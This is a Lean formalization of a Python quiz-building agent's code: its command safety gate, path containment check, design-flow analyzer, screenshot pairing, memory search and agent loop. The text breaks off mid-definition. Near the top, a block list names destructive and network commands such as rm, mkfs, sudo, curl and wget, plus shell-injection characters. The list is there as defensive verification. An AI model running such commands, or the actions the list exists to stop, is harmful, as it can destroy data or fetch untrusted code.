import Mathlib

/-!
# Verification of the quiz-agent repository against its specification

Shallow embedding of the safety gate (src/tools/safety.py), the output-path
resolver (src/tools/executor.py), the flow analyzer (src/figma/flow_analyzer.py),
the screenshot pairing algorithm (src/tools/screenshot_validator.py), the memory
store (src/memory/manager.py) and the agent loop (src/agent/core.py), together
with theorems settling the spec claims about them.

Strings are modelled as `List Char` (Python str is a sequence of code points).
Python string primitives (lower, strip, lstrip, replace, split, startswith,
substring containment) are embedded as executable functions below.
-/

namespace QuizAgent

/-! ## Python string primitives -/

/-- Python `str.lower`, restricted to ASCII case mapping (all strings handled by
the safety gate and analyzers in the repository are ASCII). -/
def pyLower (s : List Char) : List Char := s.map Char.toLower

/-- Whitespace characters stripped by Python `str.strip()`. -/
def pyWs (c : Char) : Bool :=
  c = ' ' ∨ c = '\t' ∨ c = '\n' ∨ c = '\r' ∨ c = '\x0b' ∨ c = '\x0c'

/-- Drop trailing characters satisfying `p` (helper for `str.strip`). -/
def dropRightWhileCh (p : Char → Bool) (s : List Char) : List Char :=
  (s.reverse.dropWhile p).reverse

/-- Python `str.strip()` with no arguments: trim whitespace at both ends. -/
def pyStrip (s : List Char) : List Char :=
  dropRightWhileCh pyWs (s.dropWhile pyWs)

/-- Python substring containment, `pat in s`. -/
def containsSub (s pat : List Char) : Bool := decide (pat <:+: s)

/-- Fuel-based scanner for `pyReplace` (structural recursion so the kernel can
evaluate it; `fuel ≥ s.length` and a non-empty `pat` make the fuel branch
unreachable). -/
def pyReplaceAux (pat rep : List Char) : Nat → List Char → List Char
  | 0, s => s
  | _, [] => []
  | fuel + 1, c :: rest =>
    if pat.isPrefixOf (c :: rest) then
      rep ++ pyReplaceAux pat rep fuel ((c :: rest).drop pat.length)
    else
      c :: pyReplaceAux pat rep fuel rest

/-- Python `str.replace(pat, rep)` for a non-empty `pat`:
leftmost, non-overlapping occurrences. -/
def pyReplace (pat rep : List Char) (s : List Char) : List Char :=
  pyReplaceAux pat rep s.length s

/-- Fuel-based scanner for `pySplit` (same fuel discipline as `pyReplaceAux`). -/
def pySplitAux (pat : List Char) : Nat → List Char → List (List Char)
  | 0, s => [s]
  | _, [] => [[]]
  | fuel + 1, c :: rest =>
    if pat.isPrefixOf (c :: rest) then
      [] :: pySplitAux pat fuel ((c :: rest).drop pat.length)
    else
      match pySplitAux pat fuel rest with
      | [] => [[c]]
      | h2 :: t => (c :: h2) :: t

/-- Python `str.split(pat)` for a non-empty separator `pat`. -/
def pySplit (pat : List Char) (s : List Char) : List (List Char) :=
  pySplitAux pat s.length s

/-- Python `str.split("/")`-style split on a single character. -/
def splitChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    match splitChar sep rest with
    | [] => [[c]]
    | h :: t => if c = sep then [] :: h :: t else (c :: h) :: t

/-- Python whitespace-run split `str.split()` (no separator argument):
splits on runs of whitespace, discarding empty fields. -/
def pyWords : List Char → List (List Char)
  | [] => []
  | c :: rest =>
    if pyWs c then pyWords rest
    else
      match pyWords rest with
      | [] => [[c]]
      | w :: ws =>
        match rest with
        | [] => [[c]]
        | c2 :: _ => if pyWs c2 then [c] :: w :: ws else (c :: w) :: ws

/-! ## src/tools/safety.py -/

/-- `BLOCKED_PATTERNS` from src/tools/safety.py. -/
def BLOCKED_PATTERNS : List (List Char) :=
  ["rm ".data, "del ".data, "rmdir".data, "rd ".data,
   "format".data, "mkfs".data,
   "sudo".data, "su ".data,
   "chmod".data, "chown".data,
   "curl".data, "wget".data,
   "pip install".data,
   "> /dev".data, "| rm".data,
   "`".data, "$(".data]

/-- `ALLOWED_COMMANDS` from src/tools/safety.py. -/
def ALLOWED_COMMANDS : List (List Char) :=
  ["npm install".data,
   "npm run dev".data,
   "npm run build".data,
   "npm run preview".data,
   "npm start".data,
   "npm init".data,
   "npx create-vite".data,
   "npm create vite".data,
   "npx vite build".data]

/-- The character class of `_DANGEROUS_SHELL_CHARS` from src/tools/safety.py. -/
def dangerousShellChars : List Char := ['|', ';', '`', '$', '(', ')', '<', '>']

/-- `_is_safe_npm_install` from src/tools/safety.py. -/
def isSafeNpmInstall (part0 : List Char) : Bool :=
  let part := pyStrip part0
  if part = "npm install".data ∨ part = "npm i".data then true
  else if ("npm install ".data).isPrefixOf part ∨ ("npm i ".data).isPrefixOf part then false
  else true

/-- Structured stand-in for the `ValueError` messages raised by
`validate_command`; fallible Python code is embedded as `Except`. -/
inductive CmdError where
  | npmInstallArgs
  | blockedPattern (pat : List Char)
  | shellMeta
deriving DecidableEq, Repr

/-- First blocked pattern contained in `s` (the `for pattern in BLOCKED_PATTERNS`
loops in `validate_command`). -/
def findBlocked (s : List Char) : Option (List Char) :=
  BLOCKED_PATTERNS.find? (fun p => containsSub s p)

/-- Per-segment allowlist used inside the chain branch of `validate_command`:
`ALLOWED_COMMANDS + ["cd ", "ls", "dir"]`. -/
def isPartAllowed (part : List Char) : Bool :=
  (ALLOWED_COMMANDS ++ ["cd ".data, "ls".data, "dir".data]).any
    (fun a => a.isPrefixOf part)

/-- The body of the `for part in parts` loop in `validate_command`
(chained-command branch): each stripped non-empty segment is either allowed
(with the npm-install argument check) or scanned for blocked patterns and
dangerous shell metacharacters. -/
def checkChainParts : List (List Char) → Except CmdError Unit
  | [] => .ok ()
  | raw :: rest =>
    let part := pyStrip raw
    if part = [] then checkChainParts rest
    else if isPartAllowed part then
      if ("npm install".data).isPrefixOf part ∧ ¬ isSafeNpmInstall part then
        .error .npmInstallArgs
      else checkChainParts rest
    else
      match findBlocked part with
      | some p => .error (.blockedPattern p)
      | none =>
        if part.any (fun c => dangerousShellChars.contains c) then .error .shellMeta
        else checkChainParts rest

/-- `cmd_lower = command.lower().strip()` in `validate_command`. -/
def cmdLowered (command : String) : List Char := pyStrip (pyLower command.data)

/-- The chain-split in `validate_command`:
`cmd_lower.replace("&&","|SEP|").replace("||","|SEP|").replace(";","|SEP|").split("|SEP|")`. -/
def chainParts (cl : List Char) : List (List Char) :=
  pySplit "|SEP|".data
    (pyReplace ";".data "|SEP|".data
      (pyReplace "||".data "|SEP|".data
        (pyReplace "&&".data "|SEP|".data cl)))

/-- `any(chain in cmd_lower for chain in ["&&", "||", ";"])`. -/
def hasChain (cl : List Char) : Bool :=
  ["&&".data, "||".data, ";".data].any (fun c => containsSub cl c)

/-- `validate_command` from src/tools/safety.py. Returns the command on
success, an error where the Python code raises `ValueError`. (The Python
local `cmd_lower` is written out as `cmdLowered command` at each use.) -/
def validateCommand (command : String) : Except CmdError String :=
  match ALLOWED_COMMANDS.find? (fun a => a.isPrefixOf (cmdLowered command)) with
  | some a =>
    if a = "npm install".data ∧ ¬ isSafeNpmInstall (cmdLowered command) then
      .error .npmInstallArgs
    else .ok command
  | none =>
    if hasChain (cmdLowered command) then
      (checkChainParts (chainParts (cmdLowered command))).map (fun _ => command)
    else
      match findBlocked (cmdLowered command) with
      | some p => .error (.blockedPattern p)
      | none => .ok command

/-- True when an `Except` is an error (a raise in the Python source). -/
def isErr {ε α : Type} (e : Except ε α) : Bool :=
  match e with
  | .error _ => true
  | .ok _ => false

instance {ε α : Type} [DecidableEq ε] [DecidableEq α] : DecidableEq (Except ε α) := fun a b =>
  match a, b with
  | .error e1, .error e2 => decidable_of_iff (e1 = e2) (by simp)
  | .error _, .ok _ => isFalse (by simp)
  | .ok _, .error _ => isFalse (by simp)
  | .ok v1, .ok v2 => decidable_of_iff (v1 = v2) (by simp)

/-! ### Path containment: `validate_path`

`os.path.abspath` is modelled for POSIX: join with the current working
directory when relative, then `normpath` (collapse empty and `.` components,
resolve `..` against the accumulated components, stay at root when popping an
empty stack). `cwd` is assumed absolute, as the OS guarantees. -/

/-- Python `os.path.isabs` (POSIX). -/
def isAbsPath (p : List Char) : Bool := p.head? = some '/'

/-- One step of POSIX `normpath` component processing. -/
def normStep (acc : List (List Char)) (comp : List Char) : List (List Char) :=
  if comp = [] ∨ comp = ".".data then acc
  else if comp = "..".data then acc.dropLast
  else acc ++ [comp]

/-- Model of POSIX `os.path.normpath` on an absolute path given as
slash-separated components. -/
def normAbsParts (comps : List (List Char)) : List (List Char) :=
  comps.foldl normStep []

/-- Python `os.path.join(base, p)` for the shapes used in `validate_path`. -/
def pyJoin (base p : List Char) : List Char :=
  if isAbsPath p then p
  else if base = [] then p
  else if base.getLast? = some '/' then base ++ p
  else base ++ ('/' :: p)

/-- Model of `os.path.abspath` (POSIX): absolutize against `cwd`, then
normalize. -/
def pyAbspath (cwd p : List Char) : List Char :=
  let full := if isAbsPath p then p else cwd ++ ('/' :: p)
  '/' :: List.intercalate "/".data (normAbsParts (splitChar '/' full))

/-- `validate_path` from src/tools/safety.py: resolve against `base_dir`,
then accept iff the resolved absolute path string starts with the absolute
base directory string (`resolved.startswith(base_abs)`). The `ValueError`
is embedded as `Except.error ()`. -/
def validatePath (cwd path baseDir : List Char) : Except Unit (List Char) :=
  let resolved :=
    if ¬ isAbsPath path then pyAbspath cwd (pyJoin baseDir path)
    else pyAbspath cwd path
  let baseAbs := pyAbspath cwd baseDir
  if baseAbs.isPrefixOf resolved then .ok resolved else .error ()

/-- The specification notion of path containment ("any resolved absolute path
must lie within the configured project root"): the path is the base directory
itself or lives strictly below it. Spec-side definition, used to compare
`validate_path` results against the spec words. -/
def specWithinBase (p base : List Char) : Bool :=
  p = base ∨ (base ++ "/".data).isPrefixOf p

/-! ### Output-path resolver: `_enforce_output_dir` (src/tools/executor.py) -/

/-- `path.replace("\\", "/")` — single-character replace is a `map`. -/
def mapBackslash (s : List Char) : List Char :=
  s.map (fun c => if c = '\\' then '/' else c)

/-- Python `lstrip("./")`: drop leading characters belonging to the set. -/
def lstripDotSlash (s : List Char) : List Char :=
  s.dropWhile (fun c => c = '.' ∨ c = '/')

/-- `normalized = path.replace("\\", "/").lstrip("./")`. -/
def normalizeEnforce (p : List Char) : List Char := lstripDotSlash (mapBackslash p)

/-- Python truthiness of the `_current_project` global: `None` and the empty
string are both falsy. -/
def projActive : Option String → Bool
  | none => false
  | some s => ¬ (s = "")

/-- `_enforce_output_dir` from src/tools/executor.py, with the module global
`_current_project` passed explicitly. -/
def enforceOutputDir (proj : Option String) (path : String) : String :=
  let normalized := normalizeEnforce path.data
  let projCh : List Char := (proj.getD "").data
  if ("output/".data).isPrefixOf normalized then
    let parts := splitChar '/' normalized
    if 3 ≤ parts.length then String.mk normalized
    else if projActive proj ∧ parts.length = 2 then
      String.mk ("output/".data ++ projCh ++ ('/' :: parts.getD 1 []))
    else String.mk normalized
  else if projActive proj ∧ (projCh ++ "/".data).isPrefixOf normalized then
    String.mk ("output/".data ++ normalized)
  else if projActive proj then
    String.mk ("output/".data ++ projCh ++ ('/' :: normalized))
  else
    String.mk ("output/".data ++ normalized)

/-! ## src/figma/flow_analyzer.py

The button-label patterns are regexes of the form `\b<literal>\b` (with two
optional-character cases expanded into explicit literal alternatives:
the see-results pattern with optional plural becomes "see result"/"see
results", and the lets-go pattern with optional apostrophe becomes its two
spellings). Every literal starts and ends with a word
character, so `re.search` on such a pattern means: the literal occurs in the
text with no word character immediately before or after the occurrence.
`\w` is modelled as ASCII alphanumeric or underscore. -/

/-- ASCII model of the regex `\w` character class. -/
def isWordChar (c : Char) : Bool := c.isAlphanum ∨ c = '_'

/-- Does `lit` occur at the head of `s`, followed by a word boundary?
(Assumes `lit` ends in a word character, true of every pattern literal.) -/
def wbAt (lit s : List Char) : Bool :=
  lit.isPrefixOf s &&
    (match s.drop lit.length with
     | [] => true
     | c :: _ => ! isWordChar c)

/-- Word boundary before the match position: start of string or a non-word
previous character. (Assumes `lit` starts with a word character.) -/
def prevBoundary : Option Char → Bool
  | none => true
  | some c => ¬ isWordChar c

/-- Scan `s` for a word-boundary occurrence of `lit`, tracking the previous
character. -/
def wbSearchFrom (lit : List Char) (prev : Option Char) (s : List Char) : Bool :=
  match s with
  | [] => prevBoundary prev ∧ wbAt lit []
  | c :: rest => (prevBoundary prev ∧ wbAt lit (c :: rest)) ∨ wbSearchFrom lit (some c) rest

/-- `re.search(r"\b<lit>\b", s)` for a literal `lit` delimited by word
characters. -/
def wbSearch (lit s : List Char) : Bool := wbSearchFrom lit none s

/-- The apostrophe code point, for the lets-go pattern literal. -/
def apos : Char := Char.ofNat 39

/-- `_FORWARD_PATTERNS` (all actions are "next"); each entry is the list of
literal alternatives of one regex. -/
def FORWARD_PATTERNS : List (List (List Char)) :=
  [["start".data], ["begin".data], ["get started".data], ["next".data],
   ["continue".data], ["play".data], ["go".data],
   ["lets go".data, "let".data ++ [apos] ++ "s go".data], ["take quiz".data]]

/-- `_BACKWARD_PATTERNS` (all actions are "previous"). -/
def BACKWARD_PATTERNS : List (List (List Char)) :=
  [["back".data], ["previous".data], ["return".data]]

/-- `_SUBMIT_PATTERNS` (all actions are "last"). -/
def SUBMIT_PATTERNS : List (List (List Char)) :=
  [["submit".data], ["finish".data], ["complete".data], ["done".data],
   ["see result".data, "see results".data],
   ["show result".data, "show results".data],
   ["view result".data, "view results".data]]

/-- `_RESTART_PATTERNS` (all actions are "first"). -/
def RESTART_PATTERNS : List (List (List Char)) :=
  [["try again".data], ["restart".data], ["retake".data], ["play again".data],
   ["home".data], ["reset".data]]

/-- Does any regex of the family match? Within one family every pattern maps
to the same action, so the first-match short-circuit in the source is
equivalent to `any`. `re.IGNORECASE` with all-lowercase patterns is modelled
by lowercasing the text (ASCII). -/
def familyMatches (fam : List (List (List Char))) (s : List Char) : Bool :=
  fam.any (fun alts => alts.any (fun lit => wbSearch lit (pyLower s)))

/-- `_match_button_target` from src/figma/flow_analyzer.py. The target index
is an `Int` because Python computes `total - 1` and `current_idx - 1` with
signed arithmetic. -/
def matchButtonTarget (btnText : List Char) (currentIdx total : Nat) : Option Int :=
  if familyMatches FORWARD_PATTERNS btnText then
    if currentIdx + 1 < total then some ((currentIdx : Int) + 1) else none
  else if familyMatches BACKWARD_PATTERNS btnText then
    if 0 < currentIdx then some ((currentIdx : Int) - 1) else none
  else if familyMatches SUBMIT_PATTERNS btnText then some ((total : Int) - 1)
  else if familyMatches RESTART_PATTERNS btnText then some 0
  else none

/-- A design frame, as consumed by `analyze_flow` (keys `id`, `name`).
Fields are total strings; the `.get` defaults of the source apply to absent
keys, which the embedding does not represent. -/
structure Frame where
  id : String
  name : String
deriving DecidableEq, Repr

/-- An interactive element (keys `name`, `text`, `frame`, `type`). -/
structure InteractiveElement where
  name : String
  text : String
  frame : String
  type : String
deriving DecidableEq, Repr

/-- A button entry of a screen record (`{"text": ..., "type": ...}`). -/
structure ButtonInfo where
  text : String
  type : String
deriving DecidableEq, Repr

/-- A screen record as built by `analyze_flow`. -/
structure Screen where
  index : Nat
  name : String
  frameId : String
  buttons : List ButtonInfo
  description : String
deriving DecidableEq, Repr

/-- `_describe_screen` from src/figma/flow_analyzer.py. -/
def describeScreen (frame : Frame) (buttons : List ButtonInfo) : String :=
  let name := pyLower frame.name.data
  let kw := fun (l : List String) => l.any (fun k => containsSub name k.data)
  let desc :=
    if kw ["home", "start", "landing", "welcome", "intro"] then "Landing/start screen"
    else if kw ["question", "quiz", "q1", "q2", "q3"] then "Quiz question screen"
    else if kw ["result", "score", "summary", "finish", "end", "complete"] then
      "Results/score screen"
    else if kw ["settings", "config", "option"] then "Settings screen"
    else if kw ["profile", "user", "account"] then "Profile screen"
    else if kw ["loading", "splash"] then "Loading screen"
    else "App screen"
  if buttons.isEmpty then desc
  else desc ++ " with buttons: " ++ String.intercalate ", " ((buttons.take 5).map (·.text))

/-- The screens-list construction at the top of `analyze_flow`: per frame,
collect the interactive elements whose enclosing-frame name matches the frame
name case-insensitively. -/
def buildScreens (frames : List Frame) (elements : List InteractiveElement) : List Screen :=
  frames.mapIdx (fun i f =>
    let frameButtons := elements.filter
      (fun el => pyLower el.frame.data = pyLower f.name.data)
    let buttons := frameButtons.map (fun b => ButtonInfo.mk b.text b.type)
    { index := i, name := f.name, frameId := f.id, buttons := buttons,
      description := describeScreen f buttons })

/-- A transition record (`{"from": ..., "to": ..., "trigger": ...}`). -/
structure Transition where
  fromName : String
  toName : String
  trigger : String
deriving DecidableEq, Repr

/-- The button-driven transitions of `_determine_transitions`: the guard
`0 <= target < num_screens` discards out-of-range matches. -/
def buttonTransitions (screens : List Screen) : List Transition :=
  screens.flatMap (fun screen =>
    screen.buttons.filterMap (fun b =>
      match matchButtonTarget (pyStrip (pyLower b.text.data))
          screen.index screens.length with
      | some t =>
        if 0 ≤ t ∧ t < (screens.length : Int) then
          match screens[t.toNat]? with
          | some s2 => some ⟨screen.name, s2.name, b.text ++ " button"⟩
          | none => none
        else none
      | none => none))

/-- The linear-flow fallback of `_determine_transitions`
(`for i in range(num_screens - 1)`). -/
def linearChain (screens : List Screen) : List Transition :=
  (screens.zip screens.tail).map (fun p => ⟨p.1.name, p.2.name, "navigation (inferred)"⟩)

/-- `_determine_transitions` from src/figma/flow_analyzer.py. -/
def determineTransitions (screens : List Screen) : List Transition :=
  let ts := buttonTransitions screens
  if ts = [] ∧ 1 < screens.length then linearChain screens else ts

/-- The structured result of `analyze_flow` (the `flow_text` rendering of
`_generate_flow_text` is a presentation-only report and is not modelled; the
returned screen records keep the `index` field the source drops on output). -/
structure FlowResult where
  screens : List Screen
  transitions : List Transition
deriving DecidableEq, Repr

/-- `analyze_flow` from src/figma/flow_analyzer.py. -/
def analyzeFlow (frames : List Frame) (elements : List InteractiveElement) : FlowResult :=
  if frames = [] then ⟨[], []⟩
  else
    let screens := buildScreens frames elements
    ⟨screens, determineTransitions screens⟩

/-- The three-screen quiz fixture of the specification. -/
def quizFrames : List Frame :=
  [⟨"1:1", "Home"⟩, ⟨"1:2", "Question"⟩, ⟨"1:3", "Results"⟩]

/-- The two buttons of the fixture: "Start Quiz" on "Home", "Submit" on
"Question". -/
def quizElements : List InteractiveElement :=
  [⟨"btn1", "Start Quiz", "Home", "button"⟩, ⟨"btn2", "Submit", "Question", "button"⟩]

/-! ## src/tools/screenshot_validator.py — frame/route pairing

Scores are modelled as exact fractions, carried as `numerator × denominator`
pairs of naturals (`0.9` becomes `(9, 10)`, `0.5 + 0.3 * (o / m)` becomes
`(5 * m + 3 * o, 10 * m)`) and compared by cross-multiplication. This is the
exact rational semantics of the score formulas; the source compares IEEE
doubles, which agree at every comparison the claims exercise. Python sets of
words are modelled as deduplicated lists (only sizes and membership are
consumed). -/

/-- Exact `<` on fraction pairs (positive denominators). -/
def qlt (a b : ℕ × ℕ) : Bool := a.1 * b.2 < b.1 * a.2

/-- Exact `=` on fraction pairs (positive denominators). -/
def qeqS (a b : ℕ × ℕ) : Bool := a.1 * b.2 = b.1 * a.2

/-- Python `str.strip("/")`. -/
def stripSlashes (s : List Char) : List Char :=
  dropRightWhileCh (fun c => c = '/') (s.dropWhile (fun c => c = '/'))

/-- `.replace("-", " ").replace("_", " ")` — single-character replaces. -/
def dashUnderscoreToSpace (s : List Char) : List Char :=
  s.map (fun c => if c = '-' ∨ c = '_' then ' ' else c)

/-- `_fuzzy_match_score` from src/tools/screenshot_validator.py. -/
def fuzzyMatchScore (frameName routePath : String) : ℕ × ℕ :=
  let frameLower := dashUnderscoreToSpace (pyLower frameName.data)
  let routeLower := dashUnderscoreToSpace (stripSlashes (pyLower routePath.data))
  if routeLower = [] ∧
      (["home", "start", "welcome", "landing", "main"].any
        (fun w => containsSub frameLower w.data)) then (1, 1)
  else if routeLower ≠ [] ∧ containsSub frameLower routeLower then (9, 10)
  else if routeLower ≠ [] ∧ containsSub routeLower frameLower then (8, 10)
  else
    let frameWords := (pyWords frameLower).dedup
    let routeWords := (pyWords routeLower).dedup
    if routeWords ≠ [] ∧ frameWords ≠ [] then
      let overlap := frameWords.filter (fun w => routeWords.contains w)
      if overlap ≠ [] then
        let m := max frameWords.length routeWords.length
        (5 * m + 3 * overlap.length, 10 * m)
      else (0, 1)
    else (0, 1)

/-- The score matrix of `_pair_frames_to_routes`: `(score, route_index,
frame_index)` for every positive-scoring pair, frames outer, routes inner. -/
def scoreTuples (appRoutes : List String) (figmaFrames : List Frame) :
    List ((ℕ × ℕ) × ℕ × ℕ) :=
  ((figmaFrames.mapIdx fun fi frame =>
    (appRoutes.mapIdx fun ri route =>
      (fuzzyMatchScore frame.name route, ri, fi))).flatten).filter
    (fun t => qlt (0, 1) t.1)

/-- Stable insertion of `a` into a sorted list: `a` is placed before the first
element `b` with `le a b`. -/
def insSorted (le : α → α → Bool) (a : α) : List α → List α
  | [] => [a]
  | b :: t => if le a b then a :: b :: t else b :: insSorted le a t

/-- Stable sort (insertion sort), matching the semantics of Python
`list.sort` for a total preorder `le`. -/
def pySortBy (le : α → α → Bool) (l : List α) : List α := l.foldr (insSorted le) []

/-- The order of `scores.sort(reverse=True)`: descending lexicographic
comparison of `(score, route_index, frame_index)` tuples; `tupleDescLe a b`
holds when `a` sorts no later than `b`. -/
def tupleDescLe (a b : (ℕ × ℕ) × ℕ × ℕ) : Bool :=
  qlt b.1 a.1 ∨
    (qeqS a.1 b.1 ∧ (b.2.1 < a.2.1 ∨ (b.2.1 = a.2.1 ∧ b.2.2 ≤ a.2.2)))

/-- The greedy-assignment loop of `_pair_frames_to_routes`: walk the sorted
scores, taking a pair whenever both its route and its frame are still unused.
`used_routes`/`used_frames` sets are modelled as lists (membership only). -/
def greedyAssign : List ((ℕ × ℕ) × ℕ × ℕ) → List (ℕ × ℕ) → List ℕ → List ℕ →
    List (ℕ × ℕ) × List ℕ × List ℕ
  | [], pairs, usedR, usedF => (pairs, usedR, usedF)
  | (_, ri, fi) :: rest, pairs, usedR, usedF =>
    if ¬ usedR.contains ri ∧ ¬ usedF.contains fi then
      greedyAssign rest (pairs ++ [(ri, fi)]) (usedR ++ [ri]) (usedF ++ [fi])
    else greedyAssign rest pairs usedR usedF

/-- `scores.sort(reverse=True)` in `_pair_frames_to_routes`. -/
def sortedScores (appRoutes : List String) (figmaFrames : List Frame) :
    List ((ℕ × ℕ) × ℕ × ℕ) :=
  pySortBy tupleDescLe (scoreTuples appRoutes figmaFrames)

/-- The `(pairs, used_routes, used_frames)` state after the greedy first
pass of `_pair_frames_to_routes`. -/
def greedyResult (appRoutes : List String) (figmaFrames : List Frame) :
    List (ℕ × ℕ) × List ℕ × List ℕ :=
  greedyAssign (sortedScores appRoutes figmaFrames) [] [] []

/-- `unmatched_routes = [i for i in range(len(app_routes)) if i not in
used_routes]`. -/
def unmatchedRoutes (appRoutes : List String) (figmaFrames : List Frame) : List ℕ :=
  (List.range appRoutes.length).filter
    (fun i => ! (greedyResult appRoutes figmaFrames).2.1.contains i)

/-- `unmatched_frames = [i for i in range(len(figma_frames)) if i not in
used_frames]`. -/
def unmatchedFrames (appRoutes : List String) (figmaFrames : List Frame) : List ℕ :=
  (List.range figmaFrames.length).filter
    (fun i => ! (greedyResult appRoutes figmaFrames).2.2.contains i)

/-- `_pair_frames_to_routes` from src/tools/screenshot_validator.py: greedy
score-ranked pairs, then a positional `zip` fallback over the unmatched
leftovers, finally sorted by route index. -/
def pairFramesToRoutes (appRoutes : List String) (figmaFrames : List Frame) :
    List (ℕ × ℕ) :=
  if appRoutes = [] ∨ figmaFrames = [] then []
  else
    pySortBy (fun a b => a.1 ≤ b.1)
      ((greedyResult appRoutes figmaFrames).1 ++
        (unmatchedRoutes appRoutes figmaFrames).zip (unmatchedFrames appRoutes figmaFrames))

/-- The frame fixture of the pairing claim ("Home Page", "Quiz Screen",
"Results"). -/
def pairingFrames : List Frame :=
  [⟨"p1", "Home Page"⟩, ⟨"p2", "Quiz Screen"⟩, ⟨"p3", "Results"⟩]

/-! ## src/memory/manager.py

The four JSON-backed category files are modelled as association lists from key
to the serialized `data` record (the `json.dumps` output is treated as an
opaque string, since `search` only ever concatenates it into the searchable
text). The `saved_at` wall-clock timestamp, the on-disk persistence, and the
per-category locks are not modelled (single-state semantics). -/

/-- A memory category name. `search` is also callable with the string "all",
modelled as `Option MemCat` with `none` for "all". -/
inductive MemCat where
  | projects
  | preferences
  | knowledge
  | sessions
deriving DecidableEq, Repr

/-- The four category stores (key to serialized data). -/
structure MemoryState where
  projects : List (String × String)
  preferences : List (String × String)
  knowledge : List (String × String)
  sessions : List (String × String)
deriving DecidableEq, Repr

/-- The empty memory store (fresh `MemoryManager` initialization). -/
def emptyMemory : MemoryState := ⟨[], [], [], []⟩

def getStore (st : MemoryState) : MemCat → List (String × String)
  | .projects => st.projects
  | .preferences => st.preferences
  | .knowledge => st.knowledge
  | .sessions => st.sessions

def setStore (st : MemoryState) : MemCat → List (String × String) → MemoryState
  | .projects, s => { st with projects := s }
  | .preferences, s => { st with preferences := s }
  | .knowledge, s => { st with knowledge := s }
  | .sessions, s => { st with sessions := s }

/-- `store[key] = {...}` on a Python dict: replace in place when the key
exists (dicts preserve insertion order), append otherwise. -/
def updateStore (store : List (String × String)) (key jd : String) :
    List (String × String) :=
  if store.any (fun kv => kv.1 = key) then
    store.map (fun kv => if kv.1 = key then (key, jd) else kv)
  else store ++ [(key, jd)]

/-- `MemoryManager.save` from src/memory/manager.py. -/
def memSave (st : MemoryState) (cat : MemCat) (key jd : String) : MemoryState :=
  setStore st cat (updateStore (getStore st cat) key jd)

/-- `query_words = [w.lower() for w in query.split() if len(w) > 1]`. -/
def queryWords (query : String) : List (List Char) :=
  ((pyWords query.data).filter (fun w => 1 < w.length)).map pyLower

/-- The lowercased searchable text: the key, a space, and the serialized
data record (the f-string built in `MemoryManager.search`). -/
def searchableText (key jd : String) : List Char :=
  pyLower (key.data ++ (' ' :: jd.data))

/-- `matched = sum(1 for w in query_words if w in searchable)`. -/
def matchCount (qws : List (List Char)) (s : List Char) : ℕ :=
  (qws.filter (fun w => containsSub s w)).length

/-- One result of `MemoryManager.search` (with the internal `_score` already
deleted; `saved_at` is not modelled). -/
structure SearchResult where
  category : MemCat
  key : String
  data : String
deriving DecidableEq, Repr

/-- The per-category scan of `MemoryManager.search`: entries with at least one
matched query word, in store order, paired with their match count. -/
def searchCatResults (cat : MemCat) (qws : List (List Char))
    (store : List (String × String)) : List (SearchResult × ℕ) :=
  store.filterMap (fun kv =>
    let m := matchCount qws (searchableText kv.1 kv.2)
    if 0 < m then some (⟨cat, kv.1, kv.2⟩, m) else none)

/-- `MemoryManager.search` from src/memory/manager.py. `category = none`
models the "all" scope, which scans projects, preferences and knowledge
(sessions excluded). The final sort is stable descending by match count
(Python `list.sort(..., reverse=True)`). -/
def memSearch (st : MemoryState) (query : String) (category : Option MemCat) :
    List SearchResult :=
  let qws := queryWords query
  if qws = [] then []
  else
    let cats := match category with
      | some c => [c]
      | none => [MemCat.projects, MemCat.preferences, MemCat.knowledge]
    let results := (cats.map (fun c => searchCatResults c qws (getStore st c))).flatten
    (pySortBy (fun a b => b.2 ≤ a.2) results).map (fun r => r.1)

/-! ## src/agent/core.py — the agent loop

The loop is embedded as a function of two oracles: `resp n` is the model
response to the n-th `chat.send_message` call (transport exceptions appear as
`apiError`, a response with no candidates/content as `empty`), and `stop n`
is the value of the `_stop_requested` flag at the n-th point where the code
polls it. Tool execution never influences control flow (every handler
exception, timeout and empty result is converted to an error/result string),
so tool results are not modelled; neither are the image side channels, which
only change what is sent back to the model. -/

/-- A model response as seen by one `chat.send_message` call. -/
inductive ModelResponse where
  | apiError (msg : String)
  | empty
  | content (functionCalls : List String) (textParts : List String)
deriving DecidableEq, Repr

/-- How `AgentCore.run` terminates: a returned string, or the `AgentStopped`
exception. -/
inductive RunResult where
  | returns (msg : String)
  | raisesStopped
deriving DecidableEq, Repr

/-- `MAX_ITERATIONS` from src/agent/core.py. -/
def MAX_ITERATIONS : ℕ := 80

/-- The `for fc in function_calls` loop plus the post-batch check: the stop
flag is polled before each tool call and once after the batch; returns the
next poll index, or `none` when a stop was observed (`AgentStopped`). -/
def batchChecks (stop : ℕ → Bool) : ℕ → List String → Option ℕ
  | chk, [] => if stop chk then none else some (chk + 1)
  | chk, _ :: rest => if stop chk then none else batchChecks stop (chk + 1) rest

/-- Outcome of handling one model response inside an iteration. -/
inductive StepOut where
  | terminal (r : RunResult)
  | continueLoop (send chk : ℕ)
deriving DecidableEq, Repr

/-- Handling of a content response: zero function calls end the run with the
joined text (`"\n".join(text_parts)`; the session save to memory is a side
effect outside the loop state); otherwise the batch is dispatched and the
loop continues. -/
def handleContent (stop : ℕ → Bool) (send chk : ℕ) (fcs ts : List String) : StepOut :=
  if fcs = [] then .terminal (.returns (String.intercalate "\n" ts))
  else
    match batchChecks stop chk fcs with
    | none => .terminal .raisesStopped
    | some chk2 => .continueLoop send chk2

/-- The empty-response corrective nudge: one more send; a transport failure or
a second empty response ends the run, content proceeds into the iteration. -/
def nudge (resp : ℕ → ModelResponse) (stop : ℕ → Bool) (send chk : ℕ) : StepOut :=
  match resp send with
  | .apiError e =>
    .terminal (.returns ("Agent stopped: model returned empty response and retry failed: " ++ e))
  | .empty => .terminal (.returns "Agent stopped: model returned empty response after retry.")
  | .content fcs ts => handleContent stop (send + 1) chk fcs ts

/-- The `while self.iteration_count < MAX_ITERATIONS` loop of
`AgentCore.run`: stop poll at loop top, model round-trip with one retry on
transport failure, empty-response nudge, tool dispatch, next iteration.
`fuel` is the number of remaining iterations
(`MAX_ITERATIONS - iteration_count`); when it reaches zero the loop falls
through to the exhaustion sentinel return. -/
def agentLoop (resp : ℕ → ModelResponse) (stop : ℕ → Bool) :
    ℕ → ℕ → ℕ → RunResult
  | 0, _, _ => .returns "Agent reached maximum iteration limit."
  | fuel + 1, send, chk =>
    if stop chk then .raisesStopped
    else
      let step :=
        match resp send with
        | .apiError _ =>
          match resp (send + 1) with
          | .apiError e2 => StepOut.terminal (.returns ("Agent stopped due to API error: " ++ e2))
          | .empty => nudge resp stop (send + 2) (chk + 1)
